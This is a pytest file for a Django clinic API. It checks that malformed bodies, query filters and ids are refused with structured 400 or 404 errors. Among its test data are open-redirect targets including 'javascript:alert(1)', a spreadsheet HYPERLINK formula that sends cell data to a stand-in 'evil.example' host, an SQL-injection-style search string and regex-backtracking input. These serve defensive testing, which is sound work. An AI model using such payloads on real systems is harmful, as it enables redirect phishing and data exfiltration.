"""Bad input, one table: every row must answer 400 (404 for an id in the path) in the API's
error format ``{"code", "detail", "fields"}`` naming the field at fault, and never 500.

The rows are what breaks Django/PostgreSQL APIs in practice (docs/security.md): NUL bytes
(PostgreSQL text cannot hold them), integers beyond bigint, wrong JSON types, unknown fields,
over-long strings, impossible dates, datetimes without or with impossible UTC offsets, and
filters in the query string with values they cannot take. They cover patients, appointments,
toxin sessions, toxin lots, plans and time off; the schema fuzz test
(test_api_schema_fuzz.py) throws generated input at every other operation.

After the table, one small test per bug found once: JSON bodies too deep (a RecursionError, a
500) or too large, UTC offsets PostgreSQL refuses and far-off years in every date filter, NUL in
pages' query strings (the audit page's filter), ``next`` leading off the site (the recall close
action), spreadsheet formulas in the dashboard CSV, and answers the schema did not allow (a
consent carried over by a merge, a grading without a staff rater).
"""

import copy
from datetime import datetime, time, timedelta
from time import perf_counter
from zoneinfo import ZoneInfo

import pytest
import schemathesis
from django.core import signals
from django.db import close_old_connections
from django.utils import timezone
from rest_framework.test import APIClient

from clinic.roles import Role
from clinic.tokens.services import api_token_issue
from clinic.wsgi import application
from tests.factories import AppointmentFactory, UserFactory
from tests.scheduling.factories import WorkingHoursFactory
from tests.treatments.factories import ToxinLotFactory

pytestmark = pytest.mark.django_db

BIG = 2**63  # one past PostgreSQL's bigint
HUGE = 10**30


@pytest.fixture
def api(db, settings):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]  # fast users
    user = UserFactory(username="bad-input", roles=[r.value for r in Role])
    client = APIClient()
    client.force_authenticate(user)
    return client


@pytest.fixture
def world(db):
    appointment = AppointmentFactory(starts_at=timezone.now() + timedelta(days=3))
    day = timezone.localdate() + timedelta(days=30)
    WorkingHoursFactory(
        provider=appointment.provider, location=appointment.room.location, weekday=day.weekday()
    )
    lot = ToxinLotFactory()
    return {
        "appointment": appointment,
        "patient": appointment.patient,
        "lot": lot,
        # A free quarter hour in the provider's working hours.
        "slot": datetime.combine(day, time(10, 0), tzinfo=ZoneInfo("Europe/London")),
    }


def _payloads(world) -> dict[str, tuple[str, str, dict]]:
    """Endpoint name -> (method, path, a valid body). Each row spoils one field of the body."""
    patient, appointment, lot = world["patient"], world["appointment"], world["lot"]
    soon = timezone.now() + timedelta(days=30)
    return {
        "patient": (
            "post",
            "/api/v1/patients/",
            {"first_name": "Ann", "last_name": "Lee", "date_of_birth": "1980-01-02"},
        ),
        "patient-edit": ("patch", f"/api/v1/patients/{patient.pk}/", {"city": "Leeds"}),
        "booking": (
            "post",
            "/api/v1/appointments/",
            {
                "patient": patient.pk,
                "appointment_type": appointment.appointment_type.code,
                "provider": appointment.provider_id,
                "start": world["slot"].isoformat(),
                "notes": "",
            },
        ),
        "toxin": (
            "post",
            "/api/v1/toxin-sessions/",
            {
                "patient": patient.pk,
                "occurred_at": (timezone.now() - timedelta(hours=1)).isoformat(),
                "product": lot.product,
                "lot": lot.pk,
                "dilution_ml": "2.5",
                "note": "",
                "injections": [{"muscle": "mentalis", "side": "left", "units": "2.5", "points": 1}],
            },
        ),
        "lot": (
            "post",
            "/api/v1/toxin-lots/",
            {"product": lot.product, "lot_number": "Z1", "expiry_date": "2030-01-31", "vial_units": 100},
        ),
        "plan": (
            "post",
            "/api/v1/treatment-plans/",
            {
                "patient": patient.pk,
                "goals": "Better smile",
                "modalities": ["toxin"],
                "stages": [{"modality": "toxin", "description": "x"}],
            },
        ),
        "time-off": (
            "post",
            "/api/v1/time-off/",
            {
                "provider": appointment.provider_id,
                "starts_at": soon.isoformat(),
                "ends_at": (soon + timedelta(hours=2)).isoformat(),
                "reason": "Course",
            },
        ),
    }


MISSING = object()

# (endpoint, field path in the body, bad value, expected top-level code)
BODY_CASES = [
    # NUL bytes: PostgreSQL text cannot store them.
    ("patient", "first_name", "Ann\x00Lee", "invalid"),
    ("patient-edit", "city", "\x00", "invalid"),
    ("booking", "notes", "late\x00", "invalid"),
    ("booking", "appointment_type", "consult\x00ation", "invalid"),
    ("toxin", "note", "a\x00b", "invalid"),
    ("toxin", "injections.0.muscle", "\x00", "invalid"),
    ("lot", "lot_number", "L\x00T", "invalid"),
    ("time-off", "reason", "\x00", "invalid"),
    # Integers beyond bigint, as values and as ids of related records.
    ("booking", "patient", BIG, "invalid"),
    ("booking", "provider", HUGE, "invalid"),
    ("booking", "duration_minutes", BIG, "invalid"),
    ("toxin", "lot", BIG, "invalid"),
    ("toxin", "patient", HUGE, "invalid"),
    ("toxin", "injections.0.points", BIG, "invalid"),
    ("toxin", "response_onset_days", HUGE, "invalid"),
    ("lot", "vial_units", BIG, "invalid"),
    ("time-off", "provider", -BIG, "invalid"),
    # Wrong JSON types.
    ("patient", "first_name", ["Ann"], "invalid"),
    ("patient", "date_of_birth", 19800102, "invalid"),
    ("patient", "sex", {"value": "female"}, "invalid"),
    ("booking", "patient", "abc", "invalid"),
    ("booking", "start", 1_700_000_000, "invalid"),
    ("toxin", "injections", "everywhere", "invalid"),
    ("toxin", "injections.0", "mentalis", "invalid"),
    ("toxin", "dilution_ml", [], "invalid"),
    ("toxin", "response_ptosis", "perhaps", "invalid"),
    ("lot", "vial_units", "many", "invalid"),
    ("lot", "vial_units", 2.5, "invalid"),
    ("time-off", "starts_at", True, "invalid"),
    # Unknown and read-only fields: refused, never silently dropped.
    ("patient", "nickname", "Annie", "unknown_field"),
    ("patient", "mrn", "X1", "unknown_field"),
    ("patient-edit", "status", "inactive", "unknown_field"),
    ("booking", "room_name", "Room 1", "unknown_field"),
    ("toxin", "injections.0.colour", "red", "unknown_field"),
    ("toxin", "signed_at", "2027-01-01T00:00:00Z", "unknown_field"),
    ("lot", "session_count", 3, "unknown_field"),
    ("time-off", "id", 1, "unknown_field"),
    # Over-long strings.
    ("patient", "first_name", "x" * 101, "invalid"),
    ("patient", "last_name", "x" * 100_000, "invalid"),
    ("booking", "notes", "x" * 501, "invalid"),
    ("toxin", "note", "x" * 20_001, "invalid"),
    ("lot", "lot_number", "x" * 65, "invalid"),
    ("time-off", "reason", "x" * 10_000, "invalid"),
    # Malformed and impossible dates.
    ("patient", "date_of_birth", "1980-13-01", "invalid"),
    ("patient", "date_of_birth", "1980-02-30", "invalid"),
    ("patient", "date_of_birth", "02/01/1980", "invalid"),
    ("patient", "date_of_birth", "", "invalid"),
    ("patient", "date_of_birth", "0001-01-01", "invalid"),
    ("patient", "date_of_birth", "9999-12-31", "invalid"),
    ("lot", "expiry_date", "2030-02-30", "invalid"),
    # Datetimes: malformed, impossible, far off, or without their UTC offset.
    ("booking", "start", "2027-03-02T10:00:00", "invalid"),
    ("booking", "start", "2027-03-02T10:00:00+25:00", "invalid"),
    ("booking", "start", "2027-03-02T10:00:00+01:99", "invalid"),
    ("booking", "start", "2027-03-02T10:00:00+01:00:30", "invalid"),
    ("booking", "start", "2027-03-02T24:30:00Z", "invalid"),
    ("booking", "start", "0001-01-01T00:00:00+14:00", "invalid"),
    ("booking", "start", "9999-12-31T23:59:59-14:00", "invalid"),
    ("booking", "start", "next tuesday", "invalid"),
    ("toxin", "occurred_at", "2027-03-01T09:00", "invalid"),
    ("toxin", "occurred_at", "1580-09-16T19:25:16+01:10", "invalid"),
    ("time-off", "starts_at", "2027-03-02T10:00:00-24:00", "invalid"),
    ("time-off", "ends_at", "2027-03-02", "invalid"),
    # Offsets Python takes but PostgreSQL refuses (past +-15:59): no offset in use passes +-14:00.
    ("booking", "start", "2027-03-02T10:00:00+23:59", "invalid"),
    ("toxin", "occurred_at", "2026-03-01T09:00:00-16:00", "invalid"),
    ("time-off", "starts_at", "2027-03-02T10:00:00+14:30", "invalid"),
    # NUL inside free-form JSON (a plan's stages), where no serializer field looks at it.
    ("plan", "stages.0.description", "a\x00b", "invalid"),
    ("plan", "stages.0.d\x00", "x", "invalid"),
]


def _spoil(body: dict, path: str, value) -> dict:
    body = copy.deepcopy(body)
    *parents, last = path.split(".")
    node = body
    for key in parents:
        node = node[int(key)] if isinstance(node, list) else node[key]
    if isinstance(node, list):
        node[int(last)] = value
    else:
        node[last] = value
    return body


def _error_at(fields, path: str):
    node = fields
    for key in path.split("."):
        node = node[int(key)] if isinstance(node, list) else node[key]
    return node


def _assert_error(response, status: int) -> dict:
    assert response.status_code == status, response.content[:500]
    # FHIR's errors come as application/fhir+json, like its answers.
    assert response["Content-Type"].startswith(("application/json", "application/fhir+json"))
    body = response.json()
    assert {"code", "detail", "fields"} <= set(body)
    assert isinstance(body["code"], str)
    assert isinstance(body["detail"], str)
    assert isinstance(body["fields"], dict)
    return body


@pytest.mark.parametrize(
    ("endpoint", "path", "value", "code"),
    BODY_CASES,
    ids=[f"{e}-{p}-{str(v)[:12]!r}" for e, p, v, _ in BODY_CASES],
)
def test_bad_field_is_400_naming_the_field(api, world, endpoint, path, value, code):
    method, url, body = _payloads(world)[endpoint]
    response = getattr(api, method)(url, _spoil(body, path, value), format="json")
    error = _assert_error(response, 400)
    assert error["code"] == code
    # "injections.0" (a row of the wrong type) is reported on the row, in a list of rows.
    assert _error_at(error["fields"], path), error


@pytest.mark.parametrize("endpoint", ["patient", "booking", "toxin", "lot", "time-off", "plan"])
def test_valid_body_of_each_row_is_accepted(api, world, endpoint):
    """The rows above spoil a body that works: their 400s are about the spoilt field."""
    method, url, body = _payloads(world)[endpoint]
    response = getattr(api, method)(url, body, format="json")
    assert response.status_code in (200, 201), response.json()


@pytest.mark.parametrize("endpoint", ["patient", "booking", "toxin", "lot", "time-off"])
@pytest.mark.parametrize("body", [[], "text", 42, None])
def test_a_body_that_is_not_an_object_is_400(api, world, endpoint, body):
    method, url, _ = _payloads(world)[endpoint]
    response = getattr(api, method)(url, body, format="json")
    _assert_error(response, 400)


def test_malformed_json_is_400(api, world):
    response = api.post("/api/v1/patients/", data='{"first_name": ', content_type="application/json")
    _assert_error(response, 400)


def test_a_form_encoded_body_is_415(api, world):
    # The API takes JSON only (REST_FRAMEWORK["DEFAULT_PARSER_CLASSES"]).
    response = api.post("/api/v1/patients/", {"first_name": "Ann"}, format="multipart")
    _assert_error(response, 415)


def test_unknown_fields_are_named_together(api, world):
    _, url, body = _payloads(world)["patient"]
    response = api.post(url, {**body, "nickname": "A", "shoe_size": 7}, format="json")
    error = _assert_error(response, 400)
    assert error["code"] == "unknown_field"
    assert error["fields"] == {"nickname": ["Unknown field."], "shoe_size": ["Unknown field."]}


QUERY_CASES = [
    ("/api/v1/appointments/", {"date_from": "2027-02-30"}, "date_from"),
    ("/api/v1/appointments/", {"patient": "abc"}, "patient"),
    ("/api/v1/appointments/", {"patient": str(BIG)}, "patient"),
    ("/api/v1/appointments/", {"provider": str(HUGE)}, "provider"),
    ("/api/v1/appointments/", {"status": "lost"}, "status"),
    ("/api/v1/appointments/", {"appointment_type": "x\x00"}, "appointment_type"),
    ("/api/v1/toxin-sessions/", {"patient": str(HUGE)}, "patient"),
    ("/api/v1/toxin-sessions/", {"patient": "1.5"}, "patient"),
    ("/api/v1/toxin-sessions/", {"occurred_after": "2027-03-02T10:00:00+25:00"}, "occurred_after"),
    ("/api/v1/toxin-sessions/", {"occurred_before": "soon"}, "occurred_before"),
    ("/api/v1/toxin-sessions/", {"status": "lost"}, "status"),
    ("/api/v1/encounters/", {"kind": "\x00"}, "kind"),
    ("/api/v1/messages/", {"due_from": "yesterday"}, "due_from"),
    ("/api/v1/messages/", {"patient": "-1"}, "patient"),
    ("/api/v1/audit-events/", {"at__gte": "nope"}, "at__gte"),
    ("/api/v1/audit-events/", {"actor": str(BIG)}, "actor"),
    ("/api/v1/recalls/", {"due_from": "2027-13-01"}, "due_from"),
    ("/api/v1/recalls/", {"bucket": "someday"}, "bucket"),
    ("/api/v1/toxin-lots/", {"usable_on": "2030-02-30"}, "usable_on"),
    ("/api/v1/patients/", {"status": "lost"}, "status"),
    ("/api/v1/patients/", {"page": "abc"}, "page"),
    ("/api/v1/patients/", {"page": "0"}, "page"),
    ("/api/v1/patients/", {"page": str(HUGE)}, "page"),
    (
        "/api/v1/availability/",
        {"appointment_type": "x", "date_from": "2027-02-30", "date_to": "x"},
        "date_from",
    ),
    ("/api/v1/availability/", {"appointment_type": "\x00", "date_from": "2027-03-01"}, "appointment_type"),
    ("/api/v1/availability/", {"limit": str(HUGE)}, "limit"),
    ("/api/v1/availability/", {"limit": "1.5"}, "limit"),
    ("/api/v1/availability/", {"after": "2027-03-02T10:00:00+25:00"}, "after"),
    ("/api/v1/availability/", {"after": "9999-12-31T23:59:59Z"}, "after"),
    # Datetime filters: offsets PostgreSQL refuses (a 500 before), far-off and impossible years.
    ("/api/v1/toxin-sessions/", {"occurred_before": "2027-03-02T10:00:00+23:59"}, "occurred_before"),
    ("/api/v1/toxin-sessions/", {"occurred_before": "2027-03-02T10:00:00+99:00"}, "occurred_before"),
    ("/api/v1/toxin-sessions/", {"occurred_after": "0001-01-01T00:00:00+01:00"}, "occurred_after"),
    ("/api/v1/toxin-sessions/", {"occurred_after": "9999-12-31T23:59:59-01:00"}, "occurred_after"),
    ("/api/v1/toxin-sessions/", {"occurred_after": "0000-01-01T00:00:00Z"}, "occurred_after"),
    ("/api/v1/toxin-sessions/", {"occurred_after": "10000-01-01T00:00:00Z"}, "occurred_after"),
    ("/api/v1/surgeries/", {"occurred_before": "2027-03-02T10:00:00-16:00"}, "occurred_before"),
    ("/api/v1/surgeries/", {"occurred_after": "2027-03-02T10:00:00+01:00:30"}, "occurred_after"),
    ("/api/v1/consultations/", {"occurred_after": "2027-03-02T10:00:00+15:00"}, "occurred_after"),
    ("/api/v1/therapy-visits/", {"occurred_before": "0001-01-01T00:00:00+14:00"}, "occurred_before"),
    ("/api/v1/follow-ups/", {"occurred_before": "2027-03-02T10:00:00+20:00"}, "occurred_before"),
    ("/api/v1/audit-events/", {"at__gte": "2027-03-02T10:00:00+23:59"}, "at__gte"),
    ("/api/v1/audit-events/", {"at__lt": "0001-01-01T00:00:00+01:00"}, "at__lt"),
    ("/api/v1/messages/", {"due_from": "2027-03-02T10:00:00-23:00"}, "due_from"),
    ("/api/v1/messages/", {"due_to": "9999-12-31T23:59:59-01:00"}, "due_to"),
    ("/api/v1/recalls/", {"due_from": "0001-01-01"}, "due_from"),
    ("/api/v1/toxin-lots/", {"usable_on": "9999-12-31"}, "usable_on"),
    ("/api/v1/appointments/", {"date_to": "0001-01-01"}, "date_to"),
    ("/api/v1/time-off/", {"date_from": "9999-12-31"}, "date_from"),
    # Values a filter does not know are refused, not dropped (the list came back unfiltered).
    ("/api/v1/locations/", {"is_active": "1e-323"}, "is_active"),
    ("/api/v1/toxin-lots/", {"is_active": "maybe"}, "is_active"),
    ("/api/v1/patients/", {"page_size": "abc"}, "page_size"),
    ("/api/v1/patients/", {"page_size": "0"}, "page_size"),
    ("/api/v1/patients/", {"page_size": "-5"}, "page_size"),
    # NUL bytes in any query parameter, filter or not (PostgreSQL text cannot hold them).
    ("/api/v1/audit-events/", {"action": "patient.\x00"}, "action"),
    ("/api/v1/audit-events/", {"actor": "\x00"}, "actor"),
    ("/api/v1/patients/", {"search": "jo\x00hn"}, "search"),
    ("/api/v1/patients/", {"ordering": "\x00"}, "ordering"),
    ("/api/v1/assessments/", {"instrument": "\x00"}, "instrument"),
]


@pytest.mark.parametrize(
    ("path", "params", "field"), QUERY_CASES, ids=[f"{p}?{q}" for p, q, _ in QUERY_CASES]
)
def test_bad_filter_value_is_400_naming_the_parameter(api, world, path, params, field):
    error = _assert_error(api.get(path, params), 400)
    assert field in error["fields"], error


@pytest.mark.parametrize(
    "path",
    [
        f"/api/v1/patients/{BIG}/",
        f"/api/v1/patients/{HUGE}/",
        "/api/v1/patients/-1/",
        "/api/v1/patients/1.5/",
        "/api/v1/patients/%00/",
        f"/api/v1/appointments/{HUGE}/",
        f"/api/v1/toxin-sessions/{BIG}/",
        f"/api/v1/toxin-lots/{BIG}/patients/",
        "/api/v1/no-such-thing/",
    ],
)
def test_an_id_that_cannot_exist_is_404_in_the_error_format(api, world, path):
    body = _assert_error(api.get(path), 404)
    assert body["code"] == "not_found"


@pytest.mark.parametrize("path", [f"/api/v1/fhir/Patient/{BIG}", f"/api/v1/fhir/Patient/{HUGE}/$everything"])
def test_an_id_that_cannot_exist_is_a_fhir_404_on_the_fhir_routes(api, world, path):
    # The FHIR routes answer in FHIR: an OperationOutcome, not the API's error format.
    response = api.get(path)
    assert response.status_code == 404
    assert response["Content-Type"].startswith("application/fhir+json")
    assert response.json()["resourceType"] == "OperationOutcome"
    assert response.json()["issue"][0]["code"] == "not-found"


def test_a_page_past_the_end_is_404_in_the_error_format(api, world):
    body = _assert_error(api.get("/api/v1/patients/", {"page": "999"}), 404)
    assert body["code"] == "not_found"


@pytest.mark.parametrize("search", ["%", "_", "'; --", "x" * 5000])
def test_patient_search_with_odd_text_never_errors(api, world, search):
    response = api.get("/api/v1/patients/", {"search": search})
    assert response.status_code in (200, 400)
    if response.status_code == 400:
        _assert_error(response, 400)


# -- Request bodies: size and depth (clinic/api/parsers.py) ----------------------------------


def _post_raw(api, text: str, url="/api/v1/patients/"):
    return api.post(url, data=text, content_type="application/json")


@pytest.mark.parametrize(
    "text",
    [
        "[" * 100_000 + "]" * 100_000,  # json.loads alone: RecursionError, a 500
        '{"a":' * 50_000 + "1" + "}" * 50_000,
        '{"first_name": ' + "[" * 5_000,  # deep and unterminated
        "[" * 33 + "]" * 33,  # one past the limit
    ],
    ids=["arrays-100000", "objects-50000", "unterminated-5000", "arrays-33"],
)
def test_deeply_nested_json_is_400_before_it_is_parsed(api, world, text):
    error = _assert_error(_post_raw(api, text), 400)
    assert error["code"] == "too_deeply_nested"


def test_nesting_up_to_the_limit_is_parsed_and_validated(api, world):
    _, url, _ = _payloads(world)["patient"]
    deep = "[" * 31 + "1" + "]" * 31  # 32 with the body's own object
    error = _assert_error(_post_raw(api, f'{{"first_name": "Ann", "last_name": {deep}}}', url), 400)
    assert error["code"] == "invalid"
    assert "last_name" in error["fields"]


def test_brackets_inside_strings_do_not_count(api, world):
    _, url, body = _payloads(world)["patient"]
    response = api.post(url, {**body, "first_name": 'Ann[[[{{{"\\' + "[" * 40}, format="json")
    assert response.status_code == 201, response.json()


def test_body_over_the_size_limit_is_400(api, world, settings):
    settings.API_MAX_BODY_BYTES = 2_000
    _, url, body = _payloads(world)["patient"]
    response = api.post(url, {**body, "last_name": "x" * 3_000}, format="json")
    error = _assert_error(response, 400)
    assert error["code"] == "body_too_large"
    assert api.post(url, body, format="json").status_code == 201  # a small body still works


def test_depth_scan_is_linear_on_hostile_strings():
    from clinic.api.parsers import json_depth

    # Escaped quotes in an unterminated string: a naive string regex backtracks quadratically.
    hostile = '"' + '\\"[' * 200_000
    started = perf_counter()
    json_depth(hostile)
    assert perf_counter() - started < 2
    assert json_depth('{"a": "]]]]\\"[[", "b": [[{}]]}') == 4
    assert json_depth('"\\\\"[[') == 2  # an escaped backslash ends nothing: the string is over


# -- next: same site only (clinic/redirects.py) ------------------------------------------------


EVIL = ["https://evil.example/", "//evil.example/", "/\\evil.example/", "javascript:alert(1)"]


@pytest.mark.parametrize("target", EVIL)
def test_recall_close_does_not_redirect_off_site(client, world, target):
    from scheduling.services import recall_open

    user = UserFactory(username="recalls", roles=[Role.FRONT_DESK.value])
    recall = recall_open(
        patient=world["patient"],
        kind="reinjection",
        appointment_type_code=world["appointment"].appointment_type.code,
        anchor_date=timezone.localdate(),
        earliest_date=timezone.localdate() + timedelta(days=10),
        due_date=timezone.localdate() + timedelta(days=20),
        overdue_date=timezone.localdate() + timedelta(days=40),
        source="bad-input",
        label="Re-injection",
        actor=user,
    )
    client.force_login(user)
    response = client.post(f"/recalls/{recall.pk}/close/", {"reason": "moved away", "next": target})
    assert response.status_code == 302
    assert response["Location"] == "/recalls/"


def test_recall_close_follows_a_same_site_next(client, world):
    from scheduling.services import recall_open

    user = UserFactory(username="recalls", roles=[Role.FRONT_DESK.value])
    recall = recall_open(
        patient=world["patient"],
        kind="reinjection",
        appointment_type_code=world["appointment"].appointment_type.code,
        anchor_date=timezone.localdate(),
        earliest_date=timezone.localdate() + timedelta(days=10),
        due_date=timezone.localdate() + timedelta(days=20),
        overdue_date=timezone.localdate() + timedelta(days=40),
        source="bad-input",
        label="Re-injection",
        actor=user,
    )
    client.force_login(user)
    response = client.post(
        f"/recalls/{recall.pk}/close/", {"reason": "moved away", "next": "/recalls/?page=2"}
    )
    assert response["Location"] == "/recalls/?page=2"


def test_appointment_action_does_not_redirect_to_a_backslash_host(client, world):
    # "/\\evil.example" starts with one slash, yet browsers read it as "//evil.example".
    appointment = world["appointment"]
    client.force_login(UserFactory(username="desk", roles=[Role.FRONT_DESK.value]))
    response = client.post(f"/schedule/appointments/{appointment.pk}/confirm/", {"next": "/\\evil.example/"})
    assert response.status_code == 302
    assert response["Location"] == f"/schedule/appointments/{appointment.pk}/"


# -- NUL bytes in pages' query strings and forms (clinic.middleware.RefuseNulMiddleware) --------


@pytest.mark.parametrize("params", [{"action": "patient.\x00"}, {"actor": "\x00"}, {"patient": "1\x00"}])
def test_nul_in_the_audit_page_filter_is_400(client, params):
    # The audit page filters with action__startswith: PostgreSQL refused the NUL (a 500).
    client.force_login(UserFactory(username="manager", roles=[Role.MANAGER.value]))
    response = client.get("/clinic/audit/", params)
    assert response.status_code == 400
    assert client.get("/clinic/audit/", {"action": "patient."}).status_code == 200


def test_nul_in_a_page_query_or_form_is_400(client, world):
    client.force_login(UserFactory(username="desk", roles=[Role.FRONT_DESK.value]))
    assert client.get("/patients/", {"q": "jo\x00hn"}).status_code == 400
    assert client.get("/patients/", {"q\x00": "x"}).status_code == 400
    appointment = world["appointment"]
    response = client.post(f"/schedule/appointments/{appointment.pk}/confirm/", {"next": "/\x00"})
    assert response.status_code == 400


# -- CSV exports cannot carry formulas (clinic/spreadsheet.py) -------------------------------------


def test_dashboard_csv_neutralises_formulas_but_not_negative_numbers(client, world):
    import csv
    import io

    from clinic.spreadsheet import safe_cell

    room = world["appointment"].room
    room.name = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    room.save()
    client.force_login(UserFactory(username="manager", roles=[Role.MANAGER.value]))
    response = client.get("/clinical/dashboard/", {"weeks": "4", "format": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    items = {row[1] for row in rows if row[0] == "room_utilisation"}
    assert "'" + str(room) in items
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "@", "\t", "\r"))]
    for formula in ["=1+1", "+1", "-1+2", "@SUM(A1)", "\tx", "\rx"]:
        assert safe_cell(formula) == "'" + formula
    assert safe_cell(-3) == -3  # numbers are values, not formulas
    assert safe_cell("Room 1") == "Room 1"


# -- Answers match the schema (clinic/api/schema.py) ------------------------------------------


@pytest.fixture
def schema_of_api(api):
    user = UserFactory(username="schema-reader", roles=[r.value for r in Role])
    headers = {"Authorization": f"Token {api_token_issue(user=user, label='schema check')[1]}"}
    # In-process requests share the test's transaction (as in test_api_schema_fuzz.py).
    signals.request_started.disconnect(close_old_connections)
    signals.request_finished.disconnect(close_old_connections)
    yield schemathesis.openapi.from_wsgi("/api/schema/", application, headers=headers), headers
    signals.request_started.connect(close_old_connections)
    signals.request_finished.connect(close_old_connections)


def _answer_matches_schema(schema_and_headers, method, path, **path_parameters):
    schema, headers = schema_and_headers
    operation = schema[path][method]
    response = operation.Case(path_parameters=path_parameters).call(headers=headers)
    assert response.status_code == 200, response.text[:500]
    operation.validate_response(response)  # raises, naming the mismatch
    return response.json()


def test_a_consent_carried_over_by_a_merge_matches_the_schema(schema_of_api, world):
    from tests.patients.factories import ConsentFactory

    ConsentFactory(patient=world["patient"], method="merge")
    body = _answer_matches_schema(
        schema_of_api, "GET", "/api/v1/patients/{id}/consents/", id=world["patient"].pk
    )
    assert "merge" in [row["method"] for row in body["results"]]
    # ... but a client cannot send it.
    schema, _ = schema_of_api
    request_enum = schema.raw_schema["components"]["schemas"]["ConsentMethodSentEnum"]["enum"]
    assert "merge" not in request_enum


def test_a_patient_reported_assessment_without_a_rater_matches_the_schema(schema_of_api, world):
    from tests.treatments.factories import SAQ_ITEMS
    from treatments.services import assessment_record

    assessment = assessment_record(
        patient=world["patient"],
        instrument="saq",
        items=SAQ_ITEMS,
        assessed_at=timezone.now(),
        rater_kind="patient",
    )
    body = _answer_matches_schema(schema_of_api, "GET", "/api/v1/assessments/{id}/", id=assessment.pk)
    assert body["rater"] is None


@pytest.mark.parametrize(
    ("method", "path", "body", "field"),
    [
        ("patch", "/api/v1/locations/{location}/", {"address": 8.98e270}, "address"),
        (
            "post",
            "/api/v1/patients/",
            {"first_name": 12, "last_name": "Ng", "date_of_birth": "1980-01-01"},
            "first_name",
        ),
    ],
)
def test_a_number_sent_for_a_text_field_is_400_not_stored_as_digits(api, world, method, path, body, field):
    """DRF would store 8.98e270 as the text "8.98e+270"; the schema says text, so it is refused."""
    url = path.format(location=world["appointment"].room.location_id)
    response = getattr(api, method)(url, body, format="json")
    assert response.status_code == 400
    assert response.json()["fields"][field] == ["Must be text."]


def test_a_patch_cannot_store_a_row_without_its_required_fields(api, world):
    """Rows of a list replace the stored rows whole, so each must be complete even in a PATCH:
    a therapist's recommendation to the injector without its side was stored with side ''."""
    from tests.treatments.factories import record_therapy

    user = UserFactory(username="therapist-row", roles=[Role.THERAPIST.value])
    visit = record_therapy(world["patient"], user)
    response = api.patch(
        f"/api/v1/therapy-visits/{visit.pk}/", {"recommendations": [{"muscle": "platysma"}]}, format="json"
    )
    assert response.status_code == 400
    assert response.json()["fields"]["recommendations"] == [{"side": ["This field is required."]}]
